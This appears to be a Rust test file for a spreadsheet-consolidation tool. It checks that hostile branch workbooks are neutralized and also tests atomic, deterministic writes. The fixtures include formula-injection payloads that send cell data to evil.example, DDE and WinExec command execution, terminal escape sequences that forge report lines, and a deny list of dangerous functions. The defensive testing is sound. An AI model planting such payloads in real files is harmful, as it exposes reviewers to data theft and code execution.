//! Hostile inputs stay inert: a branch workbook built to attack the reviewer (live formulas,
//! terminal escapes, forged lines, values beyond Excel's limits) is checked and consolidated
//! next to a clean one. What crossfoot writes holds no dangerous formula, what it prints holds
//! no control character, and the clean branch is still checked and consolidated. Writing
//! leaves no debris, keeps a replaced file's permissions and gives the same bytes twice.

use crate::common;

use common::forms::{plan, write_branch, Branch, Content, Layout};
use rust_xlsxwriter::{DocProperties, ExcelDateTime, Format, Formula, Workbook};
use std::collections::BTreeMap;
use std::io::{BufRead, Read, Write};
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

/// ESC c (reset), CSI (clear the screen), OSC (set the window title), a right-to-left override,
/// and newlines that forge a clean report line.
const ESCAPES: &str =
    "\u{1b}c\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}\u{2066}\nforged.xlsx\n  clean\n";

/// A sheet name Excel accepts (no `[]:*?/\`) carrying escapes and a newline.
const SHEET_ESCAPES: &str = "M01\u{1b}c\u{9b}2J\u{202e}\nok";

/// The dangerous formulas, each with the cached result the branch's workbook stores.
const DANGEROUS: &[(&str, &str)] = &[
    (
        "_xlfn.WEBSERVICE(\"http://evil.example/?d=\"&C10)",
        "leak-webservice",
    ),
    (
        "WEBSERVICE(\"http://evil.example/\")",
        "leak-webservice-plain",
    ),
    (
        "SUM(_xlfn.WEBSERVICE(\"http://evil.example/\"))",
        "leak-nested",
    ),
    (
        "_xlfn.IMPORTDATA(\"http://evil.example/x.csv\")",
        "leak-importdata",
    ),
    (
        "_xlfn.FILTERXML(_xlfn.WEBSERVICE(\"http://evil.example/\"),\"//a\")",
        "leak-filterxml",
    ),
    (
        "HYPERLINK(\"http://evil.example/?\"&C10,\"open me\")",
        "leak-hyperlink",
    ),
    ("INDIRECT(\"C\"&10)", "leak-indirect"),
    (
        "CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)",
        "leak-call",
    ),
    ("REGISTER(\"kernel32\",\"WinExec\")", "leak-register"),
    ("RTD(\"evil.server\",,\"x\")", "leak-rtd"),
    ("cmd|' /c calc'!A0", "leak-dde"),
    ("[1]Sheet1!A1", "leak-external-index"),
    ("'C:\\secret\\[x.xlsx]Sheet1'!A1", "leak-external-path"),
    ("TongSoBiMat*2", "leak-defined-name"),
];

/// Names no formula in what crossfoot writes may hold.
const FORBIDDEN: &[&str] = &[
    "WEBSERVICE",
    "IMPORTDATA",
    "FILTERXML",
    "HYPERLINK",
    "INDIRECT",
    "CALL(",
    "REGISTER",
    "RTD(",
    "|",
    "[",
    "TONGSOBIMAT",
];

/// A branch workbook laid out as the template, with `sheet_rename` for M01's sheet and `extra`
/// formulas (with cached results) written to the right of M01's table.
fn write_hostile(
    b: &Branch,
    layout: &Layout,
    sheet_rename: Option<&str>,
    extra: &[(&str, &str)],
) -> Vec<u8> {
    let mut wb = Workbook::new();
    let created = ExcelDateTime::from_ymd(2024, 10, 14).unwrap();
    wb.set_properties(&DocProperties::new().set_creation_datetime(&created));
    for sheet in plan(b, layout) {
        let ws = wb.add_worksheet();
        let name = match (sheet.form, sheet_rename) {
            ("M01", Some(n)) => n.to_string(),
            _ => sheet.name.clone(),
        };
        ws.set_name(&name).unwrap();
        let firsts: Vec<(u32, u16)> = sheet.merges.iter().map(|m| (m.0, m.1)).collect();
        for &(r1, c1, r2, c2) in &sheet.merges {
            let text = match sheet.at(r1, c1).map(|c| &c.content) {
                Some(Content::Text(t)) => t.clone(),
                _ => String::new(),
            };
            ws.merge_range(r1, c1, r2, c2, &text, &Format::new())
                .unwrap();
        }
        for cell in &sheet.cells {
            if firsts.contains(&(cell.row, cell.col)) {
                continue;
            }
            match &cell.content {
                Content::Text(t) => ws.write_string(cell.row, cell.col, t).unwrap(),
                Content::Number(v, None) => ws.write_number(cell.row, cell.col, *v).unwrap(),
                Content::Number(v, Some(f)) => ws
                    .write_number_with_format(
                        cell.row,
                        cell.col,
                        *v,
                        &Format::new().set_num_format(f),
                    )
                    .unwrap(),
                Content::Formula(f, cached) => ws
                    .write_formula(
                        cell.row,
                        cell.col,
                        Formula::new(f)
                            .set_result(cached.map(|v| v.to_string()).unwrap_or_default()),
                    )
                    .unwrap(),
            };
        }
        if sheet.form == "M01" {
            for (k, (f, cached)) in extra.iter().enumerate() {
                ws.write_formula(k as u32, 30, Formula::new(*f).set_result(*cached))
                    .unwrap();
            }
            // Pure formulas are kept, a look-alike in a string included.
            ws.write_formula(0, 31, Formula::new("SUM(C10:C11)").set_result("7"))
                .unwrap();
            ws.write_formula(
                1,
                31,
                Formula::new("IF(C10>0,\"WEBSERVICE(1)\",\"\")").set_result("WEBSERVICE(1)"),
            )
            .unwrap();
        }
    }
    wb.save_to_buffer().unwrap()
}

/// The submissions folder: `a-hostile.xlsx` (dangerous formulas, escapes in the unit name,
/// code, a sheet name and a cell), `b-huge.xlsx` (a 40,000-character unit name and a 1 MB
/// cell), `c-clean.xlsx` (clean).
fn submissions(dir: &Path) -> PathBuf {
    let inputs = dir.join("in");
    std::fs::create_dir(&inputs).unwrap();
    let a = Branch::clean(&format!("Chi bộ {ESCAPES}"), "TD-66", 66);
    let layout_a = Layout {
        text_in: vec![("M01", "1.1", format!("ô {ESCAPES} ghi"))],
        ..Layout::default()
    };
    std::fs::write(
        inputs.join("a-hostile.xlsx"),
        write_hostile(&a, &layout_a, Some(SHEET_ESCAPES), DANGEROUS),
    )
    .unwrap();

    // Texts beyond Excel's limit: rust_xlsxwriter refuses to write them, a hostile branch's
    // tool need not; placeholders are written, then replaced in the package.
    let huge_name = format!("Chi bộ {}", "x".repeat(40_000 - 7));
    assert_eq!(huge_name.chars().count(), 40_000);
    let b = Branch::clean("__HUGE_NAME__", "TD-67", 67);
    // A megabyte of text, not one repeated letter (so it is not a trivially compressed run).
    let mut big = String::with_capacity(1 << 20);
    let mut i = 0u32;
    while big.len() < (1 << 20) {
        big.push_str(&format!("dòng {i} "));
        i += 1;
    }
    let layout_b = Layout {
        text_in: vec![("M01", "1.1", "__HUGE_CELL__".to_string())],
        ..Layout::default()
    };
    let bytes = write_hostile(&b, &layout_b, None, &[]);
    let bytes = replace_in_package(
        &bytes,
        &[("__HUGE_NAME__", &huge_name), ("__HUGE_CELL__", &big)],
    );
    std::fs::write(inputs.join("b-huge.xlsx"), bytes).unwrap();

    let c = Branch::clean("Chi bộ Sạch", "TD-01", 1);
    std::fs::write(
        inputs.join("c-clean.xlsx"),
        write_branch(&c, &Layout::default()),
    )
    .unwrap();
    inputs
}

/// The package with each placeholder replaced (texts without XML specials) in every XML part.
fn replace_in_package(xlsx: &[u8], pairs: &[(&str, &str)]) -> Vec<u8> {
    let mut archive = zip::ZipArchive::new(std::io::Cursor::new(xlsx)).unwrap();
    let mut out = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    for i in 0..archive.len() {
        let mut file = archive.by_index(i).unwrap();
        let name = file.name().unwrap().to_string();
        let mut xml = String::new();
        file.read_to_string(&mut xml).unwrap();
        for (from, to) in pairs {
            assert!(!to.contains(['<', '>', '&']));
            xml = xml.replace(from, to);
        }
        out.start_file(name, options).unwrap();
        out.write_all(xml.as_bytes()).unwrap();
    }
    out.finish().unwrap().into_inner()
}

fn crossfoot(args: &[&str]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_crossfoot"))
        .args(args)
        .env("NO_COLOR", "1")
        .output()
        .unwrap()
}

/// The characters of a terminal output that a terminal would obey rather than show: every
/// control character but the line end, and the direction controls.
fn obeyed(bytes: &[u8]) -> Vec<String> {
    let mut bad = Vec::new();
    for (i, b) in bytes.iter().enumerate() {
        if (*b < 0x20 && *b != b'\n') || *b == 0x7f {
            bad.push(format!("byte {b:#04x} at {i}"));
        }
    }
    for c in String::from_utf8_lossy(bytes).chars() {
        if ('\u{80}'..='\u{9f}').contains(&c)
            || ('\u{202a}'..='\u{202e}').contains(&c)
            || ('\u{2066}'..='\u{2069}').contains(&c)
            || matches!(
                c,
                '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{2028}' | '\u{2029}'
            )
        {
            bad.push(format!("U+{:04X}", u32::from(c)));
        }
    }
    bad
}

/// The files of an .xlsx package, by name.
fn package(path: &Path) -> BTreeMap<String, String> {
    let bytes = std::fs::read(path).unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes)).unwrap();
    let mut out = BTreeMap::new();
    for i in 0..zip.len() {
        let mut f = zip.by_index(i).unwrap();
        let name = f.name().unwrap().to_string();
        let mut text = String::new();
        if f.read_to_string(&mut text).is_ok() {
            out.insert(name, text);
        }
    }
    out
}

fn unescape(xml: &str) -> String {
    xml.replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&amp;", "&")
}

/// Every formula (`<f>` element) of every worksheet of the package.
fn formulas(pkg: &BTreeMap<String, String>) -> Vec<String> {
    let re = regex::Regex::new(r"<f(?:\s[^>]*)?>([^<]*)</f>").unwrap();
    pkg.iter()
        .filter(|(n, _)| n.starts_with("xl/worksheets/sheet"))
        .flat_map(|(_, xml)| {
            re.captures_iter(xml)
                .map(|c| unescape(&c[1]))
                .collect::<Vec<_>>()
        })
        .collect()
}

/// Asserts that no formula of the package is dangerous, and that `fullCalcOnLoad` is asked for
/// only when every formula is on the allow-list.
fn assert_inert(path: &Path) -> Vec<String> {
    let pkg = package(path);
    let fs = formulas(&pkg);
    let strings = regex::Regex::new(r#""(?:[^"]|"")*""#).unwrap();
    for f in &fs {
        // Text inside string literals is data (`"WEBSERVICE(1)"`); everything else is code.
        let upper = strings.replace_all(f, "\"\"").to_uppercase();
        for bad in FORBIDDEN {
            assert!(
                !upper.contains(bad),
                "{}: a dangerous formula was kept: {f}",
                path.display()
            );
        }
        assert!(
            crossfoot::formula_safety::is_safe(f),
            "{}: {f}",
            path.display()
        );
    }
    let workbook = &pkg["xl/workbook.xml"];
    if workbook.contains("fullCalcOnLoad") {
        assert!(fs.iter().all(|f| crossfoot::formula_safety::is_safe(f)));
    }
    fs
}

/// All comments (notes) of the package, as text.
fn notes(pkg: &BTreeMap<String, String>) -> String {
    pkg.iter()
        .filter(|(n, _)| n.starts_with("xl/comments"))
        .map(|(_, x)| unescape(x))
        .collect::<Vec<_>>()
        .join("\n")
}

#[test]
fn hostile_branches_stay_inert_and_the_clean_branch_is_still_checked_and_consolidated() {
    let dir = tempfile::tempdir().unwrap();
    let inputs = submissions(dir.path());
    let review = dir.path().join("review.xlsx");
    let district = dir.path().join("district.xlsx");
    let inputs_s = inputs.to_str().unwrap();

    // check DIR -o review.xlsx
    // In the pack's language (Vietnamese), the terminal and the review workbook alike.
    let out = crossfoot(&["check", inputs_s, "-o", review.to_str().unwrap()]);
    let stdout = String::from_utf8_lossy(&out.stdout).into_owned();
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert!(
        out.status.code().is_some_and(|c| c <= 1),
        "{:?}\n{stderr}",
        out.status
    );
    assert_eq!(obeyed(&out.stdout), Vec::<String>::new(), "stdout");
    assert_eq!(
        obeyed(&out.stderr),
        Vec::<String>::new(),
        "stderr:\n{stderr}"
    );
    // No forged line: the only lines that say `clean` are crossfoot's own verdicts.
    assert!(
        !stdout.lines().any(|l| l.starts_with("forged.xlsx")),
        "{stdout}"
    );
    // The escapes are shown.
    assert!(stdout.contains("\\x1b[2J"), "{stdout}");
    assert!(stdout.contains("U+202E"));
    // The megabyte is cut with its length; the 40,000 characters too.
    assert!(
        out.stdout.len() < 100_000,
        "{} bytes printed",
        out.stdout.len()
    );
    // Its length is said in the report's language (Vietnamese), as the words around it.
    assert!(stdout.contains(" ký tự)"), "{stdout}");
    assert!(!stdout.contains("characters)"), "{stdout}");
    assert!(!stdout.contains(&"x".repeat(1_000)));
    // Every branch is checked: the clean one is clean.
    let clean_line = stdout
        .lines()
        .find(|l| l.contains("c-clean.xlsx"))
        .unwrap_or_else(|| panic!("no line for the clean branch:\n{stdout}"));
    assert!(clean_line.ends_with("  không có sai sót"), "{clean_line}");
    for f in ["a-hostile.xlsx", "b-huge.xlsx"] {
        let part = stdout.split("\n\n").find(|p| p.contains(f)).unwrap();
        assert!(part.contains("biểu: "), "{f} was not checked:\n{part}");
    }

    // The review workbook: no dangerous formula; each shown as text in a note, its cached value
    // kept; pure formulas kept.
    let fs = assert_inert(&review);
    assert!(fs.iter().any(|f| f == "SUM(C10:C11)"), "{fs:?}");
    assert!(fs.iter().any(|f| f.contains("\"WEBSERVICE(1)\"")), "{fs:?}");
    let pkg = package(&review);
    let all_notes = notes(&pkg);
    let cells: String = pkg
        .iter()
        .filter(|(n, _)| {
            n.starts_with("xl/worksheets/sheet") || n.as_str() == "xl/sharedStrings.xml"
        })
        .map(|(_, x)| x.as_str())
        .collect();
    for (f, cached) in DANGEROUS {
        // rust_xlsxwriter stores newer functions with their `_xlfn.` prefix, as Excel does.
        let bare = |t: &str| t.replace("_xlfn.", "");
        assert!(
            bare(&all_notes).contains(&format!("={}", bare(f))),
            "no note shows ={f}"
        );
        assert!(
            cells.contains(cached),
            "the cached value {cached} is missing"
        );
    }
    // The built-in pack is Vietnamese: so are the review workbook's notes.
    assert!(all_notes.contains("Công thức không được giữ lại"));
    // Texts beyond a cell's limit are cut with a marker and a note.
    assert!(cells.contains("… [cut: 40,000 characters]"));
    assert!(
        all_notes.contains("40.000 ký tự"),
        "the note on the cut unit name"
    );
    // The megabyte cell of the marked copy: its note says it was cut (after the finding's).
    let copy_notes: String = pkg
        .iter()
        .filter(|(n, _)| n.starts_with("xl/comments"))
        .filter(|(_, x)| x.contains("value.not-a-number") && x.contains("dòng 0 dòng 1"))
        .map(|(_, x)| unescape(x))
        .collect();
    assert!(
        copy_notes.contains("ký tự, nhiều hơn một ô chứa được"),
        "the note on the cut cell"
    );

    // consolidate DIR -o district.xlsx
    let out = crossfoot(&["consolidate", inputs_s, "-o", district.to_str().unwrap()]);
    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert_eq!(obeyed(&out.stdout), Vec::<String>::new(), "stdout");
    assert_eq!(
        obeyed(&out.stderr),
        Vec::<String>::new(),
        "stderr:\n{stderr}"
    );
    assert_inert(&district);
    let pkg = package(&district);
    let texts: String = pkg
        .iter()
        .filter(|(n, _)| {
            n.starts_with("xl/worksheets/sheet") || n.as_str() == "xl/sharedStrings.xml"
        })
        .map(|(_, x)| x.as_str())
        .collect();
    for code in ["TD-01", "TD-66", "TD-67"] {
        assert!(texts.contains(code), "{code} is not in the summary");
    }
    assert!(texts.contains("… [cut: 40,000 characters]"));
    // The note says the text was cut, in the pack's language (the count as plain digits).
    assert!(notes(&pkg).contains("40000"), "{}", notes(&pkg));
}

#[test]
fn two_consolidate_runs_give_the_same_bytes() {
    let dir = tempfile::tempdir().unwrap();
    let inputs = submissions(dir.path());
    let one = dir.path().join("one.xlsx");
    let two = dir.path().join("two.xlsx");
    for out in [&one, &two] {
        let o = crossfoot(&[
            "consolidate",
            inputs.to_str().unwrap(),
            "-o",
            out.to_str().unwrap(),
        ]);
        assert_eq!(
            o.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&o.stderr)
        );
        // A second apart at least once: a document time would differ.
        std::thread::sleep(std::time::Duration::from_millis(1_100));
    }
    assert!(std::fs::read(&one).unwrap() == std::fs::read(&two).unwrap());
}

/// Names of the temporary files crossfoot may have left in `dir`.
fn debris(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .unwrap()
        .flatten()
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.contains("crossfoot-tmp") || n.ends_with(".tmp"))
        .collect()
}

#[cfg(unix)]
#[test]
fn replaced_outputs_keep_their_permissions_and_stale_temporary_files_go() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let inputs = submissions(dir.path());
    let review = dir.path().join("review.xlsx");
    let district = dir.path().join("district.xlsx");
    // Earlier outputs of crossfoot (replaced); temporary files of killed runs, an hour old and
    // locked by nobody (removed); a file merely named like an older version's temporary file
    // (kept: crossfoot cannot tell it from a user's file).
    let first = crossfoot(&[
        "check",
        inputs.to_str().unwrap(),
        "-o",
        review.to_str().unwrap(),
    ]);
    assert!(first.status.code().is_some_and(|c| c <= 1));
    let first = crossfoot(&[
        "consolidate",
        inputs.to_str().unwrap(),
        "-o",
        district.to_str().unwrap(),
    ]);
    assert_eq!(first.status.code(), Some(0));
    let hour_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(3600);
    let mut kept = Vec::new();
    for out in [&review, &district] {
        std::fs::set_permissions(out, std::fs::Permissions::from_mode(0o600)).unwrap();
        let name = out.file_name().unwrap().to_str().unwrap();
        let stale = dir.path().join(format!(".{name}.crossfoot-tmp.4194301.0"));
        let lookalike = dir.path().join(format!(".{name}.4194301.0.tmp"));
        for p in [&stale, &lookalike] {
            std::fs::write(p, b"x").unwrap();
            let f = std::fs::File::options().write(true).open(p).unwrap();
            f.set_modified(hour_ago).unwrap();
        }
        kept.push(
            lookalike
                .file_name()
                .unwrap()
                .to_string_lossy()
                .into_owned(),
        );
    }
    let o = crossfoot(&[
        "check",
        inputs.to_str().unwrap(),
        "-o",
        review.to_str().unwrap(),
    ]);
    assert!(o.status.code().is_some_and(|c| c <= 1));
    let o = crossfoot(&[
        "consolidate",
        inputs.to_str().unwrap(),
        "-o",
        district.to_str().unwrap(),
    ]);
    assert_eq!(o.status.code(), Some(0));
    for out in [&review, &district] {
        let mode = std::fs::metadata(out).unwrap().permissions().mode() & 0o777;
        assert_eq!(mode, 0o600, "{}", out.display());
        assert!(
            std::fs::read(out).unwrap().starts_with(b"PK"),
            "{} was replaced",
            out.display()
        );
    }
    kept.sort();
    assert_eq!(debris(dir.path()), kept);
}

/// The child process of [`a_sigterm_while_writing_leaves_no_temporary_file`]: it starts writing
/// an output and waits, mid-write, to be killed (ignored: only that test runs it, with
/// `--ignored` and the output named in the environment; without it, it does nothing).
#[test]
#[ignore = "the child process of a_sigterm_while_writing_leaves_no_temporary_file"]
fn sigterm_child_writer() {
    let Some(out) = std::env::var_os("CROSSFOOT_SIGTERM_CHILD_OUT") else {
        return;
    };
    let target = crossfoot::output::Target::new(
        Path::new(&out),
        crossfoot::output::Replace::Forced("review"),
    );
    let r = crossfoot::output::write_atomic_with(&target, |f| {
        f.write_all(b"PK partial")?;
        f.flush()?;
        let mut so = std::io::stdout().lock();
        writeln!(so, "temporary file written")?;
        so.flush()?;
        std::thread::sleep(std::time::Duration::from_secs(60));
        Ok(())
    });
    panic!("the writer was not killed: {r:?}");
}

#[cfg(unix)]
#[test]
fn a_sigterm_while_writing_leaves_no_temporary_file() {
    use std::os::unix::process::ExitStatusExt;
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("review.xlsx");
    std::fs::write(&out, b"last week's").unwrap();
    let mut child = Command::new(std::env::current_exe().unwrap())
        .args([
            "--exact",
            &crate::common::test_name(module_path!(), "sigterm_child_writer"),
            "--ignored",
            "--nocapture",
            "--test-threads=1",
        ])
        .env("CROSSFOOT_SIGTERM_CHILD_OUT", &out)
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let mut lines = std::io::BufReader::new(child.stdout.take().unwrap()).lines();
    let ready = lines.any(|l| l.is_ok_and(|l| l.contains("temporary file written")));
    assert!(ready, "the child never started writing");
    // Mid-write: the temporary file is there.
    assert_eq!(debris(dir.path()).len(), 1, "{:?}", debris(dir.path()));
    // SAFETY: kill with the child's own id.
    unsafe { libc::kill(child.id() as libc::pid_t, libc::SIGTERM) };
    let status = child.wait().unwrap();
    assert_eq!(
        status.signal(),
        Some(libc::SIGTERM),
        "{status:?}: the signal still ends the process"
    );
    assert_eq!(debris(dir.path()), Vec::<String>::new());
    assert_eq!(std::fs::read(&out).unwrap(), b"last week's");
}
